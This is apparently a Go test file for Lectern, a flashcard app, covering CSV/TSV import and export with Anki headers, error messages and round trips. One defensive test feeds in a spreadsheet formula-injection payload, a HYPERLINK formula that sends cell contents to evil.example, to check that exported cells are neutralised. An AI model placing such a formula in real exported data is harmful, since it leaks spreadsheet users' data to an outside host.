package formats

import (
	"bytes"
	"reflect"
	"strings"
	"testing"

	"github.com/lectern/lectern/internal/quiz"
)

func TestParseCSV(t *testing.T) {
	card := func(front, back string) quiz.Card { return quiz.Card{Theme: "vocab", Front: front, Back: back} }
	cases := []struct {
		name  string
		in    string
		comma rune
		want  []quiz.Card
	}{
		{"quizlet tab", "hola\thello\nadiós\tgoodbye, farewell\n", '\t',
			[]quiz.Card{card("hola", "hello"), card("adiós", "goodbye, farewell")}},
		{"quotes inside unquoted fields are text", "say \"hi\"\tsaludar \"hola\"", '\t',
			[]quiz.Card{card(`say "hi"`, `saludar "hola"`)}},
		{"csv quoted with separator, newline and doubled quotes", "term,definition\n\"a, b\",\"line one\nline two\"\nq,\"say \"\"hi\"\"\"\n", ',',
			[]quiz.Card{card("a, b", "line one\nline two"), card("q", `say "hi"`)}},
		{"header row front,back and extra columns", "Front;Back;Tags\nx;y;tag1 tag2\n", ';',
			[]quiz.Card{card("x", "y")}},
		{"header row in other order", "definition,term\ny,x\n", ',',
			[]quiz.Card{card("x", "y")}},
		{"a line of spaces is no record", "a,b\n   \nc,d\n", ',',
			[]quiz.Card{card("a", "b"), card("c", "d")}},
		{"BOM, CRLF, blank lines and comments", "\uFEFFa,b\r\n\r\n# a comment\r\nc,d\r\n", ',',
			[]quiz.Card{card("a", "b"), card("c", "d")}},
		{"anki headers override the argument", "#separator:tab\n#html:true\n#tags column:3\nfront&nbsp;1\t<b>back</b><br>two\ttag\n", ',',
			[]quiz.Card{card("front 1", "back\ntwo")}},
		{"anki columns header names fields", "#separator:Pipe\n#columns:Back|Front\nb|f\n", 0,
			[]quiz.Card{card("f", "b")}},
		{"anki deck column sets the theme", "#separator:tab\n#deck column:1\nSpanish::Verbs\tcomer\tto eat\n", 0,
			[]quiz.Card{{Theme: "verbs", Front: "comer", Back: "to eat"}}},
		{"html guessed from content", "a,<i>b</i> &amp; c\n", ',',
			[]quiz.Card{card("a", "b & c")}},
		{"html off keeps tags", "#html:false\na;<i>b</i>\n", 0,
			[]quiz.Card{card("a", "<i>b</i>")}},
		{"guessed separator: tab before comma", "a, b\tc, d\n", 0,
			[]quiz.Card{card("a, b", "c, d")}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			res, err := ParseCSV(strings.NewReader(c.in), c.comma, Options{Theme: "vocab"})
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(res.Cards, c.want) {
				t.Errorf("got  %+v\nwant %+v", res.Cards, c.want)
			}
		})
	}
}

func TestParseCSVDecks(t *testing.T) {
	res, err := ParseCSV(strings.NewReader("#deck:Geography::Capitals\nFrance,Paris\n"), ',', Options{})
	if err != nil {
		t.Fatal(err)
	}
	if got := res.Cards[0].Theme; got != "capitals" {
		t.Errorf("theme = %q, want capitals", got)
	}
	if want := []string{"Geography::Capitals"}; !reflect.DeepEqual(res.Categories, want) {
		t.Errorf("Categories = %q, want %q", res.Categories, want)
	}
}

func TestParseCSVErrors(t *testing.T) {
	cases := []struct {
		name  string
		in    string
		comma rune
		want  string
	}{
		{"unterminated quote", "a,b\nc,\"never\nclosed\n", ',', `line 2: quoted field is not closed (a " opened on this line has no closing ")`},
		{"a lone quote at the end", "a,b\n\"", ',', `line 2: quoted field is not closed (a " opened on this line has no closing ")`},
		{"a quoted empty field is a record", "a,b\n\"\"\n", ',', "line 2: expected a term and a definition separated by ','"},
		{"empty definition", "a,b\n\n# note\nc,  \n", ',', "line 4: the definition is empty"},
		{"empty term", "a\tb\n\tdef\n", '\t', "line 2: the term is empty"},
		{"one field", "a,b\nlonely\n", ',', "line 2: expected a term and a definition separated by ','"},
		{"line after a multi-line field", "a,\"b\nc\"\nd,\n", ',', "line 3: the definition is empty"},
		{"header lines count", "#separator:tab\n#html:false\nx\t\n", 0, "line 3: the definition is empty"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			res, err := ParseCSV(strings.NewReader(c.in), c.comma, Options{})
			if err == nil {
				t.Fatalf("no error; result %+v", res)
			}
			if res != nil {
				t.Error("got a result with the error")
			}
			if got := errorStrings(t, err); !reflect.DeepEqual(got, []string{c.want}) {
				t.Errorf("error %q, want %q", got, c.want)
			}
		})
	}
}

func TestCSVRoundTrip(t *testing.T) {
	cards := []quiz.Card{
		{Front: "plain", Back: "text"},
		{Front: "with, comma", Back: "with \"quotes\""},
		{Front: "#hashtag", Back: "multi\nline"},
		{Front: "tab\there", Back: "x"},
	}
	for _, comma := range []rune{',', '\t', ';'} {
		var buf bytes.Buffer
		if err := WriteCSV(&buf, cards, comma); err != nil {
			t.Fatal(err)
		}
		res, err := ParseCSV(&buf, comma, Options{})
		if err != nil {
			t.Fatalf("comma %q: %v", comma, err)
		}
		if !reflect.DeepEqual(res.Cards, cards) {
			t.Errorf("comma %q:\n got %+v\nwant %+v", comma, res.Cards, cards)
		}
	}
	if err := WriteCSV(&bytes.Buffer{}, cards, '"'); err == nil {
		t.Error(`WriteCSV with '"': want an error`)
	}
}

func TestQuestionCards(t *testing.T) {
	qs := roundTripQuestions()
	cards := QuestionCards(qs)
	if len(cards) != len(qs) {
		t.Fatalf("%d cards for %d questions", len(cards), len(qs))
	}
	if got, want := cards[1], (quiz.Card{ID: "energy-2", Theme: "energy", Front: "Which are members?\n• Canada\n• China\n• India\n• Russia", Back: "China; Russia; India"}); !reflect.DeepEqual(got, want) {
		t.Errorf("card = %+v, want %+v", got, want)
	}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, cards, '\t'); err != nil {
		t.Fatal(err)
	}
	if _, err := ParseCSV(&buf, '\t', Options{}); err != nil {
		t.Errorf("exported question cards do not re-import: %v", err)
	}
}

// A true/false question's exported card says the fact under its verdict:
// a true statement restated, a false one's feedback and explanation.
func TestQuestionCardsSayTheStatementsFact(t *testing.T) {
	cards := QuestionCards([]quiz.Question{
		{ID: "t", Theme: "locks", Type: quiz.TrueFalse, Prompt: "True or false? The lock keeper opened the upper gates at dawn, said a boatman who was waiting below.",
			Options: []quiz.Option{{Text: "True", Correct: true}, {Text: "False"}}},
		{ID: "f", Theme: "locks", Type: quiz.TrueFalse, Prompt: "True or false? The canal has forty locks.",
			Options:     []quiz.Option{{Text: "True", Feedback: "The article has “fourteen”, not “forty”."}, {Text: "False", Correct: true}},
			Explanation: "The article says: “The canal has fourteen locks.”"},
	})
	for i, want := range []string{
		"True\nThe lock keeper opened the upper gates at dawn, said a boatman who was waiting below.",
		"False\nThe article has “fourteen”, not “forty”.\nThe article says: “The canal has fourteen locks.”",
	} {
		if cards[i].Back != want {
			t.Errorf("card %d's back = %q, want %q", i, cards[i].Back, want)
		}
	}
}

// Every text that starts with a formula character is written with a
// single quote in front, and reading Lectern's own CSV or TSV gives back
// every text exactly, quotes already in front of a formula included.
func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	texts := []string{
		`=HYPERLINK("http://evil.example/?x="&A1,"Open")`, "+1", "-5", "@SUM(A1)", "\tindented", "\rreturn",
		"'=already quoted", "''-5", "'plain quote", "'", "plain", "a=b", "5 - 3", "#hash",
	}
	var cards, want []quiz.Card
	for i, s := range texts {
		cards = append(cards, quiz.Card{Theme: "vocab", Front: "front" + strings.Repeat("x", i), Back: s})
		cards = append(cards, quiz.Card{Theme: "vocab", Front: s, Back: "back"})
	}
	// Lectern reads a carriage return as a line break.
	for _, c := range cards {
		c.Front, c.Back = strings.ReplaceAll(c.Front, "\r", "\n"), strings.ReplaceAll(c.Back, "\r", "\n")
		want = append(want, c)
	}
	for _, comma := range []rune{',', '\t'} {
		var buf bytes.Buffer
		if err := WriteCSV(&buf, cards, comma); err != nil {
			t.Fatal(err)
		}
		for line := range strings.SplitSeq(buf.String(), "\n") {
			for cell := range strings.SplitSeq(line, string(comma)) {
				cell = strings.TrimPrefix(cell, `"`)
				if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
					t.Errorf("separator %q: cell %q starts with a formula character", comma, cell)
				}
			}
		}
		res, err := ParseCSV(&buf, comma, Options{Theme: "vocab"})
		if err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(res.Cards, want) {
			t.Errorf("separator %q: read back\n%+v\nwant\n%+v", comma, res.Cards, want)
		}
	}
}
